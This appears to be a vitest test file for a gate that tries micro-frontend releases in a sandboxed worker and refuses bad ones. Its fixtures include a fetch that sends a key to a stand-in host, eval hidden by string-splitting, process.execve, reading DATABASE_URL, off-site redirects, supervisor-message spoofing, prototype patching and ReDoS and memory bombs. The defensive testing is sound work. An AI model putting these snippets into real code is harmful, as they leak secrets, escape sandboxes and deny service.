import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { full } from '@ofgc/shared/testing/full.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { releaseIntegrity } from '../../releases/store/release-files.ts';
import type { Release } from '../../releases/release.schema.ts';
import { releaseFolder, storeFolder, writeJson } from '../../releases/store/store.ts';
import { tryRelease } from '../../releases/gate/try-release.ts';
import { fillStore, publishVariant, type VariantOptions } from '../../testing/built-releases.ts';
import { type FakeApi, startFakeApi } from '../../testing/fake-api.ts';

// Real builds of the shell and two remotes; each broken release is tried by a real worker that serves nobody.
let dataDir: string;
let store: string;
let jobs: Release;
let api: FakeApi;

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'ofgc-gate-'));
  store = storeFolder(dataDir);
  [, jobs] = (await fillStore(store, ['shell', 'mfe-jobs', 'mfe-education'])) as [Release, Release];
  api = await startFakeApi();
}, 180_000);
afterAll(async () => {
  await api?.stop();
  await rm(dataDir, { recursive: true, force: true });
});

const attempt = (release: Release) => {
  const env = { ...process.env, DATA_DIR: dataDir, SITE_CLOCK: '2026-11-20', NODE_ENV: 'production' };
  return tryRelease(store, release, { apiUrl: api.url, env, stepTimeout: 8_000 });
};
let serial = 0;
const variant = (options: Omit<VariantOptions, 'version'>) =>
  publishVariant(store, jobs, { version: `try-${serial++}`, ...options });
const wrap = (differences: string, before = '') =>
  `import { remote as built } from './built.js';\n${before}\nexport const remote = { ...built, ${differences} };\n`;
const page = (id: string, code: string) =>
  wrap(
    `routes: built.routes.map((route) => (route.id === '${id}' ? { ...route, lazy: async () => (${code}) } : route))`,
  );
const slot = (code: string) => wrap(`slots: { 'home.jobs': async () => ({ slot: ${code} }) }`);
const example = { release: { warmUp: ['/portal-empleo', '/en/portal-empleo', '/portal-empleo/oferta/7'] } };

describe('the whole gate', () => {
  it('accepts a good release, and says which of its routes it could not try', async () => {
    expect(await attempt(jobs)).toEqual([
      'the route jobs.vacancy was not tried: no page links to it; name an example in warmUp',
    ]);
  });

  const refuse = async (_: string, options: Omit<VariantOptions, 'version'>, reason: RegExp) =>
    expect(attempt(await variant(options))).rejects.toThrow(reason);
  type Refused = [string, Omit<VariantOptions, 'version'>, RegExp];
  // They take until the gate loses patience.
  it.each<Refused>([
    [
      'has a slot that never answers',
      { source: slot(`{ load: () => new Promise(() => {}), Component: () => null }`) },
      /: \/: home\.jobs: home\.jobs gave no data within 2500 ms/,
    ],
    [
      'has a page that never answers',
      { source: page('jobs.portal', `{ loader: () => new Promise(() => {}), Component: () => null }`) },
      /\/portal-empleo (answers 5\d\d|never ends)/,
    ],
  ])('refuses one that %s', full, refuse);

  const loading = (data: string, before = '') => ({
    source: page('jobs.portal', `{ loader: async () => (${data}), Component: () => 'well' }`).replace(
      '\n',
      `\n${before}`,
    ),
  });
  const changed = (what: string) =>
    new RegExp(`: /portal-empleo(?: answers 500)?: its data have ${what}: the browser would get something else`);
  it.each<Refused>([
    [
      'has a page with a day in its data',
      loading('{ call: { closes: new Date(0) } }'),
      changed('a Date at call.closes'),
    ],
    [
      'has a page with a map in its data',
      loading('{ calls: [{ at: new Map() }] }'),
      changed('a Map at calls\\[0\\].at'),
    ],
    ['has a page with a set in its data', loading('new Set([1])'), changed('a Set')],
    ['has a page with a large figure in its data', loading('{ count: 10n }'), changed('a bigint at count')],
    [
      'has a page with data that hold themselves',
      loading('self', 'const self = {}; self.self = self;'),
      changed('themselves in them at self'),
    ],
    [
      'has a page with an object of a class in its data',
      loading('{ price: new Price() }', 'class Price { amount = 3; }'),
      changed('a Price at price'),
    ],
    [
      'has a slot with a day in its data',
      { source: slot(`{ load: () => ({ from: new Date(0) }), Component: () => null }`) },
      /: \/: home\.jobs: its data have a Date at from/,
    ],
    ['evaluates text', loading(`eval('1')`), /: \/portal-empleo answers 500: jobs evaluates text as code/],
    ['evaluates text elsewhere', loading(`(0, globalThis['ev' + 'al'])('1')`), /jobs evaluates text as code/],
    [
      'makes a function of text by its constructor',
      loading(`(() => {}).constructor('return 1')()`),
      /jobs evaluates text as code/,
    ],
    [
      'makes a function that waits of text',
      loading(`new (async () => {}).constructor('return 1')()`),
      /jobs evaluates text as code/,
    ],
    ['has text evaluated by a list', loading(`['1'].map(eval)`), /jobs evaluates text as code/],
    ['has text evaluated by a promise', loading(`Promise.resolve('1').then(eval)`), /jobs evaluates text as code/],
    [
      'asks others past the API client',
      loading(`fetch('https://elsewhere.example/secret?key=1')`),
      /jobs asks https:\/\/elsewhere\.example past the API client/,
    ],
    [
      'opens a socket',
      loading(`new WebSocket('wss://elsewhere.example/')`),
      /jobs asks wss:\/\/elsewhere\.example past the API client/,
    ],
    [
      'sends its visitors elsewhere by a redirect',
      {
        source: page(
          'jobs.portal',
          `{ loader: () => new Response(null, { status: 302, headers: { Location: 'https://elsewhere.example/' } }) }`,
        ),
      },
      /\/portal-empleo sends its visitors to https:\/\/elsewhere\.example\//,
    ],
    [
      'leads to itself for ever',
      {
        source: page(
          'jobs.portal',
          `{ loader: () => new Response(null, { status: 302, headers: { Location: '/portal-empleo' } }) }`,
        ),
      },
      /\/portal-empleo leads on and on, at last to \/portal-empleo/,
    ],
    [
      'calls what its worker does for the supervisor',
      {
        source: `globalThis['pro' + 'cess'].listeners('message')[0]({ suspend: ['education'] });\nexport * from './built.js';`,
      },
      /it called process\.listeners\(\)/,
    ],
    [
      'makes its worker deaf',
      { source: `globalThis['pro' + 'cess'].off('message', () => {});\nexport * from './built.js';` },
      /it called process\.off\(\)/,
    ],
    [
      'reaches for the worker’s sockets',
      loading(`process['_getActiveHandles']().length`),
      /it called process\._getActiveHandles\(\)/,
    ],
    ['becomes another process', loading(`process['execve']('/bin/true')`), /it called process\.execve\(\)/],
    [
      'changes what a shared package offers',
      { source: wrap('', `import { useAtom } from 'jotai'; useAtom.label = 'mine';`) },
      /Cannot add property label, object is not extensible/,
    ],
    [
      'takes hold of what React does for all',
      {
        source: wrap(
          '',
          `import React from 'react'; const key = Object.keys(React).find((one) => one.includes('INTERNALS')); Object.defineProperty(React[key], 'H', { get: () => null });`,
        ),
      },
      /Cannot redefine property: H|does not provide an export/,
    ],
    [
      'imports a module that is a text',
      { source: `import 'data:text/javascript,1';\nexport * from './built.js';` },
      /data:text\/javascript,1 is not in the contract/,
    ],
    [
      'imports the shell when it is asked',
      loading(`import('../../../shell/x/server/worker.js')`),
      /is outside of the release/,
    ],
    [
      'names scripts of others as its own',
      { release: { chunks: { 'jobs.portal': { js: ['../../../shell/x/browser/main.js'], css: [] } } } },
      /release\.json names the file \.\.\/\.\.\/\.\.\/shell\/x\/browser\/main\.js, which it does not have/,
    ],
    [
      'has a middleware that never answers',
      {
        source: wrap(
          `routes: built.routes.map((route) => (route.id === 'jobs.portal' ? { ...route, middleware: [() => new Promise(() => {})] } : route))`,
        ),
      },
      /the route portal-empleo\S* has a middleware: the server runs none/,
    ],
    [
      'has an expression that backtracks for ever',
      loading(`/^(a+)+$/.test('a'.repeat(60) + '!')`),
      /it held the event loop for \d+ ms/,
    ],
    [
      'takes 2 GB at once',
      loading(`[1, 2, 3, 4].map(() => new Uint8Array(500_000_000).fill(1).length)`),
      /it took more than 160 MB without a pause|it held the event loop/,
    ],
    [
      'evaluates text when it is imported',
      { source: `new Function('return 1')();\nexport * from './built.js';` },
      /jobs evaluates text as code/,
    ],
  ])('refuses one that %s', full, refuse);

  it.each<Refused>([
    [
      'speaks to its worker in the supervisor’s name',
      {
        source: `globalThis['pro' + 'cess'].emit('message', { suspend: ['education'] });\nexport * from './built.js';`,
      },
      /it called process\.emit\(\)/,
    ],
    ['exports no remote', { source: `export const other = 1;` }, /its module exports no `remote`/],
    [
      'works while nobody asks for anything',
      {
        source: `setInterval(() => { for (const end = Date.now() + 90; Date.now() < end;); }, 100);\nexport * from './built.js';`,
      },
      /it works while nobody asks for anything: \d+ % of the time/,
    ],
    [
      'has a slot that throws nothing',
      { source: slot(`{ load: async () => ({}), Component() { throw undefined; } }`) },
      /: \/: home\.jobs: undefined/,
    ],
    [
      'has a slot whose data are no JSON',
      { source: slot(`{ load: () => ({ count: 10n }), Component: () => null }`) },
      /: \/: home\.jobs: Do not know how to serialize a BigInt/,
    ],
    [
      'has a slot with 20 MB of data',
      { source: slot(`{ load: async () => 'x'.repeat(20_000_000), Component: () => null }`) },
      /: \/: home\.jobs: its data have 20000002 letters/,
    ],
    [
      'has a page of 3 MB',
      { source: page('jobs.portal', `{ Component: () => 'x'.repeat(3_000_000) }`) },
      /\/portal-empleo weighs 30\d+ letters/,
    ],
    [
      'sends its visitors elsewhere',
      {
        source: `import { jsx } from 'react/jsx-runtime';\n${slot(`{ load: async () => ({}), Component: () => jsx('meta', { httpEquiv: 'refresh', content: '0;url=https://elsewhere.example/' }) }`)}`,
      },
      /: \/ has <meta http-equiv> in it/,
    ],
  ])('refuses one that %s', full, refuse);

  it.each<Refused>([
    [
      'throws on a page that is not its first',
      { source: page('jobs.vacancy', `{ Component() { throw new Error('broken vacancy'); } }`), ...example },
      /^jobs try-\d+: \/portal-empleo\/oferta\/7 answers 500: broken vacancy \(Component \(server\/main\.js:\d+:\d+\)\)$/m,
    ],
    [
      'throws only while the API is away',
      {
        source: page(
          'jobs.portal',
          `{ loader: ({ context }) => ((globalThis.tries = (globalThis.tries ?? 0) + 1) > 4 ? Promise.reject(new TypeError('no data to read')) : null), Component: () => 'well' }`,
        ),
      },
      /\/portal-empleo with the API away: no data to read/,
    ],
    [
      'shows a key in the place of a text',
      { source: page('jobs.portal', `{ Component: () => 'portal.nothing' }`) },
      /\/portal-empleo shows keys in the place of texts: portal\.nothing/,
    ],
    [
      'has a slot that throws',
      { source: slot(`{ load: async () => 1, Component() { throw new Error('broken slot'); } }`) },
      /: \/: home\.jobs: broken slot/,
    ],
    [
      'has a slot that loops for ever',
      { source: slot(`{ load() { while (true); }, Component: () => null }`) },
      /: \/: it held the event loop for \d+ ms in load/,
    ],
    [
      'ends the process',
      { source: page('jobs.portal', `process['exit'](4)`) },
      /\/portal-empleo: it called process\.exit\(\)/,
    ],
    [
      'reaches for Node’s modules past the imports',
      {
        source: page(
          'jobs.portal',
          `{ loader: () => process['getBuiltinModule']('node:fs'), Component: () => 'well' }`,
        ),
      },
      /\/portal-empleo: it called process\.getBuiltinModule\(\)/,
    ],
    [
      'answers for its worker',
      { source: `globalThis['pro' + 'cess'].send({ tried: [] });\nexport * from './built.js';` },
      /it called process\.send\(\)/,
    ],
    [
      'patches what all share',
      {
        source: wrap(
          '',
          `const map = Array.prototype.map; Array.prototype.map = function (...words) { return map.apply(this, words); };`,
        ),
      },
      /Cannot assign to read only property 'map'/,
    ],
    [
      'imports outside of its release',
      { source: `import '../../../../other.js';\nexport * from './built.js';` },
      /other\.js is outside of the release/,
    ],
    [
      'imports what comes with Node',
      { source: `import 'node:fs';\nexport * from './built.js';` },
      /node:fs comes with Node/,
    ],
  ])('refuses one that %s', refuse);

  it('names all that it can say without rendering at once', async () => {
    const release = await variant({
      source: `${wrap(
        `name: 'education', mounts: [...built.mounts, '/educacion-comunidad'], slots: { 'home.education': built.slots['home.jobs'] }, locales: { es: built.locales.es }`,
      )}export const secret = process.env.DATABASE_URL;`,
      release: { warmUp: [] },
    });
    const { message } = (await attempt(release).catch((error: Error) => error)) as Error;
    expect(message.split('\n').map((line) => line.replace(`jobs ${release.version}: `, ''))).toEqual([
      'release.json names other mounts than its code',
      'release.json names other slots than its code',
      'remote.ts says that its name is education; it is published as jobs',
      'the mount /educacion-comunidad belongs to education',
      'the slot home.education belongs to education',
      'the language en is missing',
      'section.ts puts home.jobs on the home page, which is none of its slots',
      'warmUp names no page of each language',
      'it asks for the machine: process.env',
    ]);
  });

  it.each<[string, string, string | Buffer, RegExp]>([
    ['styles for all pages', 'more.css', '@layer remote{h1{color:red}}', /the style "h1" reaches pages of others/],
    [
      '5 MB of code',
      'more.js',
      Buffer.alloc(5 * 1024 * 1024, 'x'),
      /jobs\.portal: its scripts weigh 51\d\d KB, the budget is 60 KB/,
    ],
  ])('refuses one that brings %s', async (_, file, content, reason) => {
    const release = await variant({});
    const folder = releaseFolder(store, 'jobs', release.version);
    await writeFile(join(folder, 'browser', file), content);
    const chunks = { ...release.chunks, ...(file.endsWith('.js') && { 'jobs.portal': { js: [file], css: [] } }) };
    const changed = { ...release, chunks, integrity: await releaseIntegrity(folder) };
    await writeJson(join(folder, 'release.json'), changed);
    await expect(attempt(changed)).rejects.toThrow(reason);
  });

  it('reads all modules of its server side, not the first alone', async () => {
    const release = await variant({ source: `export * from './more.js';` });
    const folder = releaseFolder(store, 'jobs', release.version);
    await writeFile(
      join(folder, 'server/more.js'),
      `export * from './built.js';\nexport const home = process.env.HOME;`,
    );
    const changed = { ...release, integrity: await releaseIntegrity(folder) };
    await writeJson(join(folder, 'release.json'), changed);
    await expect(attempt(changed)).rejects.toThrow('it asks for the machine: process.env');
  });

  it('refuses one with a file too many, or one too few', async () => {
    const [more, less] = [await variant({}), await variant({})];
    await writeFile(join(releaseFolder(store, 'jobs', more.version), 'browser/extra.js'), '');
    await rm(join(releaseFolder(store, 'jobs', less.version), 'browser/remote.js.br'));
    await expect(attempt(more)).rejects.toThrow('browser/extra.js is no part of the release');
    await expect(attempt(less)).rejects.toThrow('browser/remote.js.br is missing');
  });
});
